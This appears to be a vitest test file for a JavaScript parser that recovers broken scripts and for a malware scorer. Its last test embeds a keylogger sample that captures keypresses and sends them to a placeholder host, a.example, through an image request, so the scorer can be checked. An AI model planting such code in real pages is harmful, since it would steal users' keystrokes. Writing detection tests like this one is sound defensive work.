import fc from 'fast-check'
import { expect, test } from 'vitest'
import { recoverProgram } from './recovery.ts'
import { scoreScript } from './score-script.ts'

test.each([
  ['members of an object', 'send: function () { return 1 }, value: 2', 1],
  ['methods of a class', 'send() { return 1 } get value() { return 2 }', 1],
  ['the end of a block before it', '}); var a = 1; window.b = a;', 2],
  ['escaped quotes', String.raw`var a = \'b\'; document.title = a;`, 2],
  ['a semicolon in an object', 'var a = { b: 1; c: 2 };\nwindow.d = a;', 2],
  ['a line that is no code', 'var a = 1;\nthis is not code;\nwindow.b = a;', 2],
  ['a truncated text', 'function a() { return 1 }\nwindow.b = function () { a(1); a(', 2],
])('is recovered: %s', (_, text, statements) => {
  expect(recoverProgram(text)?.body.length).toBeGreaterThanOrEqual(statements)
})

test.each([
  ['words', 'Not Found'],
  ['a style', 'a { color: red }'],
  ['markup', '<p>function</p>'],
  ['nothing', ''],
])('is not recovered: %s', (_, text) => {
  expect(recoverProgram(text)).toBeNull()
})

test('any text ends', () => {
  const chunks = fc.constantFrom(
    'function a(){',
    '}',
    '(',
    ')',
    ';',
    'var a={b:1;',
    '"',
    "\\'",
    '\n',
    'return',
    '=>',
  )
  fc.assert(
    fc.property(fc.array(chunks, { maxLength: 80 }), (parts) => {
      expect(() => recoverProgram(parts.join(' '))).not.toThrow()
    }),
  )
})

test('a slip of its author does not hide what a script does', () => {
  const keys = `var b=[];\ndocument.onkeypress=function(e){\nvar one={\nk: e.key;\nt: Date.now();\n};\nb.push(e.key);\n}\nsetInterval(function(){new Image().src='https://a.example/?k='+JSON.stringify(b)},200);`
  expect(scoreScript(keys).scores?.malware_score).toBeLessThan(10)
})
